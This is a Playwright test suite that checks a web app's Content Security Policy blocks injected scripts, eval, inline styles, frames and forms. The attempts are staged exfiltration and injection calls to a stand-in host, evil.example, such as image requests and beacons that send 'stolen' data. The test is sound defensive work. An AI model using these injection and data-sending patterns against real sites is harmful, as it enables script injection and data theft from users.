import type { Page } from '@playwright/test'
import { expect, test } from './shared-console.ts'

type Stopped = { directive: string; disposition: string }

/** Does something in the page and answers what the page's policy stopped. */
async function stoppedBy(page: Page, attempt: () => unknown): Promise<Stopped> {
  const hearing = await page.evaluateHandle(() => {
    const heard = new Promise<Stopped>((resolve) =>
      document.addEventListener(
        'securitypolicyviolation',
        ({ effectiveDirective, disposition }) => resolve({ directive: effectiveDirective, disposition }),
        { once: true },
      ),
    )
    return { heard }
  })
  await page.evaluate(attempt)
  return page.evaluate(({ heard }) => heard, hearing)
}

const attempts: [string, string, () => unknown][] = [
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.textContent = 'window.broken = true'
      document.body.append(script)
    },
  ],
  [
    'a script from outside',
    'script-src-elem',
    () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/a.js'
      document.body.append(script)
    },
  ],
  [
    'a module from a text',
    'script-src-elem',
    () => {
      const address = 'data:text/javascript,window.broken=true'
      import(address).catch(() => {})
    },
  ],
  [
    'an inline handler',
    'script-src-attr',
    () => document.createElement('p').setAttribute('onclick', 'window.broken = true'),
  ],
  [
    'an address that is a script',
    'script-src-elem',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.broken=true'
      link.click()
    },
  ],
  // Later, because what the test itself evaluates is allowed to.
  [
    'eval',
    'script-src',
    () => {
      // biome-ignore lint/security/noGlobalEval: to see it refused
      setTimeout(() => globalThis.eval('window.broken = true'))
    },
  ],
  ['new Function', 'script-src', () => void setTimeout(() => new Function('window.broken = true')())],
  ['a timer’s text', 'script-src', () => void setTimeout('window.broken = true')],
  [
    'an inline style without the nonce',
    'style-src-elem',
    () => {
      const style = document.createElement('style')
      style.textContent = 'body { display: none }'
      document.head.append(style)
    },
  ],
  [
    'a style in markup',
    'style-src-attr',
    () => document.createElement('p').setAttribute('style', 'display: none'),
  ],
  [
    'a style from outside',
    'style-src-elem',
    () => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = 'https://evil.example/a.css'
      document.head.append(link)
    },
  ],
  [
    'an image from outside',
    'img-src',
    () => {
      new Image().src = 'https://evil.example/?stolen'
    },
  ],
  ['a request outside', 'connect-src', () => void fetch('https://evil.example/').catch(() => {})],
  ['a request to this computer', 'connect-src', () => void fetch('http://127.0.0.1:80/').catch(() => {})],
  ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'stolen')],
  ['an event stream', 'connect-src', () => new EventSource('https://evil.example/')],
  [
    'a web socket',
    'connect-src',
    () => {
      try {
        new WebSocket('wss://evil.example/')
      } catch {
        // Stopped at once.
      }
    },
  ],
  [
    'a worker from a blob',
    'worker-src',
    () => {
      try {
        new Worker(URL.createObjectURL(new Blob(['0'])))
      } catch {
        // Stopped at once.
      }
    },
  ],
  [
    'a frame',
    'frame-src',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  ],
  [
    'a plugin',
    'object-src',
    () => {
      const plugin = document.createElement('embed')
      plugin.src = 'https://evil.example/a.pdf'
      document.body.append(plugin)
    },
  ],
  [
    'sound and film',
    'media-src',
    () => {
      new Audio('https://evil.example/a.mp3').load()
    },
  ],
  [
    'a form sent outside',
    'form-action',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  ],
  [
    'another base',
    'base-uri',
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
  ],
]

for (const [what, directive, attempt] of attempts) {
  test(`${what} is stopped`, async ({ running: { page } }) => {
    expect(await stoppedBy(page, attempt)).toEqual({ directive, disposition: 'enforce' })
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
  })
}

test('the policy is a header, with a nonce that is new each time', async ({ running: { page } }) => {
  const policy = () =>
    page.evaluate(async () => (await fetch('/')).headers.get('content-security-policy') ?? '')
  const [first, second] = [await policy(), await policy()]
  expect(first).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[^']{24}'; /)
  expect(first).not.toMatch(/unsafe|\*|https?:/)
  expect(first).not.toBe(second)
})

test('a look at every main screen breaks no rule of the policy', async ({ running: { page } }) => {
  await page.reload()
  await page.evaluate(() => {
    const broken: string[] = []
    Object.assign(window, { rules: broken })
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
      broken.push(violatedDirective),
    )
  })
  for (const name of ['Invoices', 'Keep offline', 'Settings', 'Contacts']) {
    await page.getByRole('navigation').getByRole('link', { name }).click()
    await page.getByRole('heading', { level: 1 }).or(page.getByRole('grid')).first().waitFor()
  }
  expect(await page.evaluate(() => Reflect.get(window, 'rules'))).toEqual([])
})
